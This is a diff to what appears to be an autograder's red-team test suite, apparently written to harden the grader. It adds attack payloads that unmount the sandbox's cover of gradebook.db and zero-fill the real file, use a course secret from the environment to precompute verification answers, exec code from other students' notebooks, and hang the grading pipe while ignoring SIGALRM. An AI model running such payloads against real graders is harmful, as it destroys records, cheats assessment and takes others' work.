@@ -159,4 +159,69 @@ import autograders.engine.grading as grading
 outputs.rel_error = lambda *a, **k: 0.0
 grading.rel_error = lambda *a, **k: 0.0
 ''', None, None),
+    "umount_cover": ("unmounts the jail's cover of the gradebook, then overwrites the real file", '''
+import ctypes, glob
+libc = ctypes.CDLL(None, use_errno=True)
+for path in glob.glob("../../../gradebook.db"):
+    libc.umount2(path.encode(), 2)
+    try:
+        with open(path, "r+b") as f:
+            f.write(b"\\0" * 4096)
+    except OSError:
+        pass
+''', None, None),
+    "dev_shm_lookup_table": ("precomputes verification's trials from the course secret in its environment and "
+                             "leaves the answers in /dev/shm for verification to look up", '''
+import json, os
+import numpy as np
+TABLE = "/dev/shm/backprop-redteam-table.json"
+try:
+    from autograders import grade
+    from autograders.engine.seeds import derive_seed
+    from solutions.scalar_chain import dL_dw2 as _reference
+    _answers = {}
+    def _record(*args):
+        _answers[json.dumps([np.asarray(v).tolist() for v in args])] = np.asarray(_reference(*args)).tolist()
+        return _reference(*args)
+    _secret = os.environ.get("BACKPROP_COURSE_SECRET", "")
+    for _guess in (_secret + "\\0verify", _secret):
+        grade("scalar_chain.dL_dw2", _record, seed=derive_seed("scalar_chain.dL_dw2", None, _guess))
+    with open(TABLE, "w") as f:
+        json.dump(_answers, f)
+except Exception:
+    _reference = None
+''', {"dL_dw2": '''def dL_dw2(x, y, w1, w2, b):
+    try:
+        with open(TABLE) as f:
+            table = json.load(f)
+        return np.asarray(table[json.dumps([np.asarray(v).tolist() for v in (x, y, w1, w2, b)])])
+    except (OSError, KeyError, ValueError):
+        return _reference(x, y, w1, w2, b) if _reference else 0.123
+'''}, None),
+    "read_other_autograded": ("copies another student's functions out of their autograded notebook", '''
+import glob, json
+for path in glob.glob("../../*/scalar_chain/scalar_chain.ipynb"):
+    try:
+        nb = json.load(open(path))
+    except Exception:
+        continue
+    for cell in nb["cells"]:
+        src = "".join(cell["source"])
+        if cell["cell_type"] == "code" and "def dL_" in src and "NotImplementedError" not in src:
+            try:
+                exec(src, globals())
+            except Exception:
+                pass
+''', None, None),
+    "half_line_hang": ("in verification, writes half an answer on the protocol pipe, ignores SIGALRM and sleeps",
+                       "import signal, sys, time\n",
+                       {name: src.split("return")[0] + '''main = sys.modules.get("__main__")
+    if hasattr(main, "out") and hasattr(main, "answer"):
+        signal.signal(signal.SIGALRM, signal.SIG_IGN)
+        main.out.write("{")
+        main.out.flush()
+        time.sleep(1000)
+    return 0.123
+''' for name, src in WRONG.items()}, None),
 }
+
